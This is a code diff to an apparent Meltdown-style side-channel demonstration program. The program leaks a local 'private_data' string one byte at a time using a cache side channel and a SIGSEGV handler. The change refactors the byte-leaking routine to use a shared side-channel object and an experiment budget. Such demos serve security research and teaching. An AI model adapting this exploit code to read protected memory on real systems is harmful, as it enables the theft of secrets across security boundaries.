@@ -42,6 +42,7 @@
 #include <unistd.h>
 
 #include "cache_sidechannel.h"
+#include "experiment.h"
 #include "instr.h"
 #include "local_content.h"
 #include "meltdown_local_content.h"
@@ -78,10 +79,12 @@ static void SetupSegment(int index, const char *base, bool present) {
   }
 }
 
-static char LeakByte(size_t offset) {
-  CacheSideChannel sidechannel;
+static ExperimentOutcome LeakByte(CacheSideChannel &sidechannel, size_t offset,
+                                  const ExperimentBudget &budget) {
+  sidechannel.ResetScores();
   const std::array<BigByte, 256> &oracle = sidechannel.GetOracle();
 
+  ExperimentLoop loop(budget);
   for (int run = 0;; ++run) {
     size_t safe_offset = run % strlen(public_data);
     sidechannel.FlushOracle();
@@ -137,25 +140,26 @@ static char LeakByte(size_t offset) {
     std::pair<bool, char> result =
         sidechannel.RecomputeScores(public_data[safe_offset]);
 
-    if (result.first) {
-      return result.second;
-    }
-
-    if (run > 100000) {
-      std::cerr << "Does not converge " << result.second << std::endl;
-      exit(EXIT_FAILURE);
+    if (loop.Done(result)) {
+      return loop.Finish(sidechannel);
     }
   }
 }
 
 int main() {
+  CacheSideChannel sidechannel;
   OnSignalMoveRipToAfterspeculation(SIGSEGV);
   // Setup the public data segment descriptor on index 0. It is always present.
   SetupSegment(0, public_data, true);
   std::cout << "Leaking the string: ";
   std::cout.flush();
   for (size_t i = 0; i < strlen(private_data); ++i) {
-    std::cout << LeakByte(i);
+    ExperimentOutcome outcome = LeakByte(sidechannel, i, ExperimentBudget());
+    if (!outcome.converged) {
+      std::cerr << "Does not converge " << outcome.value << std::endl;
+      exit(EXIT_FAILURE);
+    }
+    std::cout << outcome.value;
     std::cout.flush();
   }
   std::cout << "\nDone!\n";